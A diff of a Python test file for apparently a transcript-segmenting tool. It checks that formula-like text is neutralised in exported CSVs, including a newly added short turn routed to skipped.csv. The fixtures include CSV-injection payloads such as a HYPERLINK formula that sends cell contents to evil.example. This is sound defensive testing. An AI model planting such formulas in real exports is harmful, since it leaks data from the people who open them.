@@ -48,6 +48,8 @@ HOSTILE = {
     "-2+3": "-2+3 sessions later the client came back and thanked me for crying.",
     "@SUM": "@SUM(A1) is a joke my colleague made about counting the tears.",
 }
+#: a turn too short to be a segment: it reaches skipped.csv, which a judge opens too
+HOSTILE_SHORT = "=SUM(A1) sure."
 CONTROL = "I felt\x0cstuck\x0band then\x1b[31m lost with my supervisor in the session."
 CONTROL_CLEAN = "I felt stuck and then[31m lost with my supervisor in the session."
 NAME = '=HYPERLINK("http://evil.example/?q="&A1,"Support")'   # a judge's theme name
@@ -60,7 +62,7 @@ NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
 
 def hostile_case(folder: Path, name: str = "case07") -> Path:
     lines = ["Interviewer: Tell me about it.", ""]
-    for text in (*HOSTILE.values(), CONTROL):
+    for text in (*HOSTILE.values(), CONTROL, HOSTILE_SHORT):
         lines += [f"Therapist: {text}", "", "Interviewer: Mm-hmm.", ""]
     path = folder / f"{name}.txt"
     path.write_text("\n".join(lines), encoding="utf-8")
@@ -272,8 +274,10 @@ def test_run_keeps_the_exact_text_and_neutralises_every_csv(hostile_run):
         assert (seg["text"] == text).sum() == 1                   # exact in parquet
     assert (seg["text"] == CONTROL_CLEAN).sum() == 1
     cells = assert_csvs_safe(hostile_run)
-    for text in HOSTILE.values():
+    for text in (*HOSTILE.values(), HOSTILE_SHORT):
         assert "'" + text in cells and text not in cells
+    left = read_raw_csv(hostile_run / "skipped.csv")         # read back to the exact text
+    assert HOSTILE_SHORT in left["text"].tolist()
     # Consensa reads its CSVs back to the exact text
     raw = read_raw_csv(hostile_run / "segments.csv")
     assert raw["text"].tolist() == seg["text"].tolist()
